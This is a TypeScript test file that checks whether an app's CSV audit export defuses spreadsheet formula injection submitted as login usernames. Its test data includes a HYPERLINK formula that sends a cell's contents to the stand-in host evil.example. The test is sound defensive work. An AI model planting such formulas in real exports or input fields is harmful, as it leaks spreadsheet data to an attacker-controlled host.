import { describe, expect, it } from 'vitest'
import { startController } from '../helpers/controller.js'

/** Splits one CSV line into cells (RFC 4180 quoting). */
function cells(line: string): string[] {
  const out: string[] = []
  let cur = ''
  let quoted = false
  for (let i = 0; i < line.length; i++) {
    const c = line[i]
    if (quoted) {
      if (c === '"' && line[i + 1] === '"') {
        cur += '"'
        i++
      } else if (c === '"') quoted = false
      else cur += c
    } else if (c === '"') quoted = true
    else if (c === ',') {
      out.push(cur)
      cur = ''
    } else cur += c
  }
  out.push(cur)
  return out
}

describe('CSV exports', () => {
  it('never hand a spreadsheet a formula planted anonymously through a failed login', async () => {
    const ctl = await startController()
    const planted = ['-2-3-HYPERLINK("http://evil.example/?x="&A1,"open")', '=1+1', '@SUM(1)']
    for (const username of planted) {
      const r = await ctl.apiWith({}, 'POST', '/api/auth/login', { username, password: 'x' })
      expect(r.status).toBe(401)
    }
    const res = await fetch(`${ctl.url}/api/audit?format=csv`, { headers: ctl.headers })
    expect(res.status).toBe(200)
    const lines = (await res.text())
      .replace(/^\uFEFF/, '')
      .split('\r\n')
      .filter(Boolean)
    const failed = lines.filter((l) => l.includes('auth.login.failed'))
    expect(failed).toHaveLength(planted.length)
    for (const line of lines) {
      for (const cell of cells(line)) {
        if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^[+-]?\d+(\.\d+)?$/)
      }
    }
  })
})
